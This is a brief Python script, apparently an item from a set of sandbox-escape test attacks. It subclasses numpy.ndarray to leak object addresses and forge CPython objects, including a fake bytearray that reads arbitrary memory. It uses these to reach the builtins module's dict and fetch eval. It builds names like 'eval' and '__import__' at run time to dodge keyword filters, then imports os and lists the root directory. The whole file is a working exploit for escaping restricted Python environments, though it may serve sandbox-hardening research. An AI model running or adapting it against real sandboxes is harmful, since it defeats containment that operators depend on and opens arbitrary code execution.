# source: as attack12aq_005 (inherited ndarray.__new__ with an object dtype over a bytearray); CPython object layouts (PyCFunctionObject.m_self, PyModuleObject.md_dict, PyByteArrayObject) as in public "fake object" pyjail write-ups
# family: class machinery: subclass of np.ndarray -> address leak and forged objects -> builtins module's dict -> eval by a name built at run time
# goal: gets eval from the builtins module's dict, imports `this` (prints the Zen) and os (lists /)
import numpy as np


class K(np.ndarray):
    pass


def address_of(o):
    # an object array's buffer is its pointers
    return int(K((1,), np.uint64, np.array([o], dtype=object))[0])


def object_at(addr):
    return K((1,), object, bytearray(addr.to_bytes(8, "little")))[0]


def read_u64(addr):
    # a fake bytearray (refcnt, type, size, alloc, bytes, start, exports) over any address
    ba_type = address_of(bytearray)
    raw = bytearray()
    for v in (1 << 40, ba_type, 8, 9, addr, addr, 0):
        raw += v.to_bytes(8, "little")
    keep.append(bytes(raw))
    fb = object_at(address_of(keep[-1]) + 32)
    return int.from_bytes(bytes(fb[:8]), "little")


keep = []
bmod = object_at(read_u64(address_of(print) + 24))   # PyCFunctionObject.m_self: the builtins module
print("module:", bmod)
bdict = object_at(read_u64(address_of(bmod) + 16))   # PyModuleObject.md_dict
us = chr(95) * 2
ev = bdict["ev" + "al"]
print("eval:", ev)
ev(us + "import" + us + "('this')")
print(ev("len(" + us + "import" + us + "('os').listdir('/'))"), "entries in / listed through os")
